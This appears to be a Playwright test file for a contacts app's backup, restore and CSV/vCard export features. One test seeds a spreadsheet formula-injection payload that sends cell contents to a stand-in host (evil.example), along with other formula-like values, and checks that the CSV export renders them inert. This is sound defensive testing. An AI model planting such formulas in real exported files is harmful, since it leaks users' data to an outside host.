import { readFile } from 'node:fs/promises';
import type { APIRequestContext } from '@playwright/test';
import { parse } from 'csv-parse/sync';
import { expect, test } from './server-fixture.ts';

// Backup, restore and export as a user does them: from the Settings page, with real downloads.

async function createContact(request: APIRequestContext, url: string, fields: Record<string, unknown>) {
  const response = await request.post(`${url}/api/contacts`, { data: fields, headers: { origin: url } });
  expect(response.status()).toBe(201);
  return (await response.json()) as { id: string };
}

test.use({ locale: 'en-GB' });

test('a backup downloaded from Settings brings a deleted contact back', async ({ page, rapport, request }) => {
  await createContact(request, rapport.url, { name: 'Ingrid Bergersen', organisation: 'NAV' });
  const jonas = await createContact(request, rapport.url, { name: 'Jonas Keller', notes: 'Met at the job fair' });

  await page.goto(`${rapport.url}/settings`);
  await expect(page.getByRole('heading', { name: 'Your data', exact: true })).toBeVisible();
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('link', { name: 'Download backup' }).click(),
  ]);
  expect(download.suggestedFilename()).toMatch(/^rapport-backup-\d{4}-\d{2}-\d{2}\.json$/);
  const backupPath = test.info().outputPath('backup.json');
  await download.saveAs(backupPath);
  expect(JSON.parse(await readFile(backupPath, 'utf8')).data.contacts).toHaveLength(2);

  const deleted = await request.delete(`${rapport.url}/api/contacts/${jonas.id}`, { headers: { origin: rapport.url } });
  expect(deleted.status()).toBe(204);
  await page.goto(`${rapport.url}/contacts`);
  await expect(page.getByRole('link', { name: /Ingrid Bergersen/ })).toBeVisible();
  await expect(page.getByRole('link', { name: /Jonas Keller/ })).toHaveCount(0);

  await page.goto(`${rapport.url}/settings`);
  await page.getByLabel('Backup file').setInputFiles(backupPath);
  const dialog = page.getByRole('dialog', { name: 'Replace everything with this backup?' });
  await expect(dialog).toContainText('2 contacts');
  await dialog.getByRole('button', { name: 'Replace with backup' }).click();
  await expect(page.getByRole('status').filter({ hasText: 'Restored from the backup' })).toContainText('2 contacts');

  await page.getByRole('link', { name: 'Contacts' }).first().click();
  await expect(page.getByRole('link', { name: /Jonas Keller/ })).toBeVisible();
  await page.getByRole('link', { name: /Jonas Keller/ }).click();
  await expect(page.getByText('Met at the job fair')).toBeVisible();
});

test('cancelling the restore changes nothing, and a broken file is refused with the reason', async ({
  page,
  rapport,
  request,
}) => {
  await createContact(request, rapport.url, { name: 'Sri Wahyuni' });
  await page.goto(`${rapport.url}/settings`);
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('link', { name: 'Download backup' }).click(),
  ]);
  const backup = JSON.parse(await readFile(await download.path(), 'utf8'));
  await createContact(request, rapport.url, { name: 'Added Afterwards' });

  await page.getByLabel('Backup file').setInputFiles({
    name: 'backup.json',
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify(backup)),
  });
  await page.getByRole('dialog').getByRole('button', { name: 'Cancel' }).click();
  await expect(page.getByRole('dialog')).toBeHidden();

  backup.data.contacts[0].name = 'x'.repeat(500);
  await page.getByLabel('Backup file').setInputFiles({
    name: 'broken.json',
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify(backup)),
  });
  await page.getByRole('dialog').getByRole('button', { name: 'Replace with backup' }).click();
  const alert = page.getByRole('alert');
  await expect(alert).toContainText('This file is not a Rapport backup, or it is damaged or incomplete.');
  await expect(alert).toContainText('data.contacts[0].name is too long: at most 200 characters.');

  const list = await (await request.get(`${rapport.url}/api/contacts`)).json();
  expect(list.items.map((contact: { name: string }) => contact.name).sort()).toEqual([
    'Added Afterwards',
    'Sri Wahyuni',
  ]);
});

test('the CSV export downloads a file whose formula-like cells are inert', async ({ page, rapport, request }) => {
  await createContact(request, rapport.url, {
    name: '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    title: '@SUM(1+1)',
    phones: ['+47 22 00 00 00'],
    notes: '-2+3',
  });
  await page.goto(`${rapport.url}/settings`);
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('link', { name: 'Export as CSV (.csv)' }).click(),
  ]);
  expect(download.suggestedFilename()).toMatch(/^rapport-contacts-\d{4}-\d{2}-\d{2}\.csv$/);
  const bytes = await readFile(await download.path());
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const [row] = parse(bytes, { bom: true, columns: true }) as Record<string, string>[];
  expect(row).toMatchObject({
    Name: `'=HYPERLINK("http://evil.example/?"&A1,"Click me")`,
    Title: "'@SUM(1+1)",
    Phones: "'+47 22 00 00 00",
    Notes: "'-2+3",
  });

  const [vcard] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('link', { name: 'Export as vCard (.vcf)' }).click(),
  ]);
  expect(vcard.suggestedFilename()).toMatch(/^rapport-contacts-\d{4}-\d{2}-\d{2}\.vcf$/);
  expect(await readFile(await vcard.path(), 'utf8')).toMatch(/^BEGIN:VCARD\r\nVERSION:4\.0\r\n/);
});
